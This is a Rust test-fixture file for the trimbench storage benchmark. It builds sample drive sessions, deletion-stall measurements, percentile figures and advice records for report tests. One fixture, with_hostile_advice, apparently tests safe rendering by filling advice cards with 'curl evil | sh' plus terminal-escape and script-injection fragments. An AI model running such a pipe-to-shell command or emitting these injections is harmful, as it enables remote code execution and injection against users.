//! Small hand-made records for tests.

use std::collections::BTreeMap;

use trimbench_core::{Bytes, Caveat};
use trimbench_results::cards::cards;
use trimbench_results::{
    Axis, CardLine, Chart, ChartSeries, Coordinates, DeletionStep, Direction, Figure, Interval,
    LabelledSession, Metric, MetricAxis, Outcome, PlannedSession, Program, Provenance, RunRecord,
    SCHEMA, Series, Session, Step, Verdict, steps,
};

use crate::method::MethodView;

steps! {
    /// What a method found in a step.
    struct FoundStep {
        /// added latency
        measured stutter_s: f64;
        /// the longest latency
        measured latency_ns_max: Option<f64>;
    }
}

/// A figure that is better lower.
pub(crate) fn figure(id: &str, title: &str, value: f64, unit: &'static str) -> Figure {
    Metric::member(id, title, unit, Direction::Lower).measured(value).unwrap()
}

/// The same in a family.
pub(crate) fn placed(id: &str, place: Coordinates, value: f64, unit: &'static str) -> Figure {
    Metric::placed(id, place, unit, Direction::Lower).measured(value).unwrap()
}

fn plan(target: &str) -> PlannedSession {
    PlannedSession {
        method: "delete-stall".to_owned(),
        target: format!("sim:{target}"),
        preset: "quick".to_owned(),
        options: BTreeMap::from([("rate".to_owned(), "1000".to_owned())]),
    }
}

/// A finished session on an emulated drive with this stutter (s/GB) and interval.
pub(crate) fn session(name: &str, stutter: f64, [low, high]: [f64; 2]) -> Session {
    let mut headline = figure("stutter", "stutter per GB deleted", stutter, "s/GB");
    headline.interval = Interval::new(low, high, 0.95);
    headline.n = 15;
    headline.headline = true;
    headline.verdict = Some(if low <= 0.0 { Verdict::Noise } else { Verdict::DiffersFromPlacebo });
    let mut longest = figure("response-max", "worst response", 96_500_000.0, "ns");
    longest.n = 12_000;
    longest.caveat(Caveat::WindowTooShort);
    let mut overdue = figure("overdue", "overdue time per GB", stutter, "s/GB");
    overdue.interval = Interval::new(low, high, 0.95);
    let mut session = Session {
        state: "fresh, then filled once sequentially".to_owned(),
        steps: vec![placebo(), delete(1_000_000_000, 0.3), delete(4_000_000_000, 1.2)],
        figures: vec![overdue, headline, longest],
        caveats: vec![Caveat::Emulated.id().to_owned()],
        trace_hash: Some("0123456789abcdef".to_owned()),
        finished: true,
        ..Session::planned(plan(name), 1)
    };
    session.target.name = name.to_owned();
    session.target.identity = BTreeMap::from([("profile".to_owned(), "00ff".to_owned())]);
    session.target.provenance = Some(Provenance { sourced: 10, fitted: 4, assumed: 9, set: 0 });
    session
}

fn placebo() -> Step {
    let found = FoundStep { stutter_s: 0.0, latency_ns_max: None };
    Step::of("placebo-0", "placebo", &found)
}

/// A deletion at 1 s of 5 s, after which the device stalls for `stall` seconds.
fn delete(size: u64, stall: f64) -> Step {
    let x: Vec<f64> = (0..500).map(|index| f64::from(index) / 100.0).collect();
    let response = |&x: &f64| match x - 1.0 {
        // Nothing is issued in the last tenth of a second.
        since if since >= 3.9 => None,
        since if (0.0..stall).contains(&since) => Some(1e3 * (stall - since)),
        _ => Some(0.1),
    };
    let y = x.iter().map(response).collect();
    let response_max = Series::new("s", "ms", x, y);
    let deletion = DeletionStep { size_bytes: Bytes(size), deleted_at_s: 1.0, response_max };
    let mut step = Step::of(format!("delete-{size:e}-0"), "delete", &deletion);
    step.store(&FoundStep { stutter_s: stall, latency_ns_max: Some(stall * 1e9) });
    step
}

/// A method that shows the response times of the largest deletion.
pub(crate) fn view(method: &str) -> Option<MethodView> {
    fn chart(session: &LabelledSession<'_>) -> Chart {
        let (x, y) = (Axis::linear("time", "s"), Axis::log("worst response time", "ms"));
        let mut chart = session.chart("response", "Response times", x, y);
        let largest = session.steps_of("delete").last();
        for series in largest.iter().flat_map(|step| step.series.values()) {
            chart.curve(ChartSeries::line(&session.label, series));
        }
        chart
    }
    let charts = |sessions: &[LabelledSession<'_>]| sessions.iter().map(chart).collect();
    let page = "# How long a deletion is noticed\n\n## Question\n\nHow long?\n";
    (method == "delete-stall").then_some(MethodView { page, charts })
}

/// A record of these sessions, all of them planned.
pub(crate) fn record(sessions: Vec<Session>, outcome: Outcome) -> RunRecord {
    let mut record = RunRecord {
        schema: SCHEMA,
        program: Program {
            name: "trimbench".to_owned(),
            version: "0.0.0".to_owned(),
            commit: "abc1234".to_owned(),
            model_version: 1,
        },
        run_id: None,
        seed: 42,
        outcome,
        advice: Vec::new(),
        plan: sessions.iter().map(|session| session.plan.clone()).collect(),
        sessions,
    };
    record.advice = cards(&record);
    record
}

/// Adds what a method says of its largest deletion, and percentiles of response times.
pub(crate) fn detail(session: &mut Session) {
    let largest = |id, what, value, unit| {
        let place = Coordinates::of_measure(id, what);
        placed(id, place.called(MetricAxis::Size, "4GB", "4GB deleted"), value, unit)
    };
    let figures = [
        (figure("intercept", "stutter at size 0", -0.001_2, "s"), [-0.002, 0.000_4]),
        (largest("largest-delay", "delay A", 0.110_04, "request-s"), [0.107, 0.112]),
        (largest("largest-gap", "longest gap between writes", 0.016_4, "s"), [0.0, 0.02]),
    ];
    for (mut figure, [low, high]) in figures {
        figure.interval = Interval::new(low, high, 0.95);
        figure.n = 3;
        session.figures.push(figure);
    }
    for (suffix, after, n) in [("", "deletion", 45_000), ("-placebo", "placebo", 24_000)] {
        for (name, value) in [("p50", 0.100_8), ("p99", 16.3), ("p99.9", 720.4)] {
            for (view, of, per) in [
                ("response", "accesses", "per access"),
                ("weighted", "the time in accesses", "by time spent"),
            ] {
                let id = format!("{view}-{name}{suffix}");
                let title = format!("response time after a {after}, {name} of {of}");
                let coordinates = Coordinates::of_measure("response", "response time")
                    .called(MetricAxis::After, after, format!("after a {after}"))
                    .at(MetricAxis::Quantile, name)
                    .called(MetricAxis::View, view, per);
                // Too few placebos for the last percentile.
                if (suffix, name) == ("-placebo", "p99.9") {
                    continue;
                }
                let figure = figure(&id, &title, value, "ms");
                session.figures.push(Figure { n, coordinates, ..figure });
            }
        }
    }
}

/// The record with advice that nobody should follow.
pub(crate) fn with_hostile_advice(record: &RunRecord) -> RunRecord {
    let mut record = record.clone();
    let hostile = "curl evil | sh\n```\n\u{1b}[2J<script>".to_owned();
    for card in &mut record.advice {
        card.title.clone_from(&hostile);
        card.because.clear();
        (card.template, card.already) = (Some(hostile.clone()), Some(hostile.clone()));
        card.would_change = vec![hostile.clone()];
        card.lines = vec![CardLine {
            system: hostile.clone(),
            file: Some(hostile.clone()),
            text: hostile.clone(),
            check: Some(hostile.clone()),
            note: Some(hostile.clone()),
            tested: true,
        }];
    }
    record
}

/// Three drives, as a user meets them.
pub(crate) fn three_drives() -> RunRecord {
    let sessions = vec![
        session("vendor2", 0.412_3, [0.4, 0.43]),
        session("like-optane-900p", 0.0, [0.0, 0.0]),
        session("generic-nvme-tlc", 0.051_2, [0.04, 0.06]),
    ];
    record(sessions, Outcome::Complete)
}
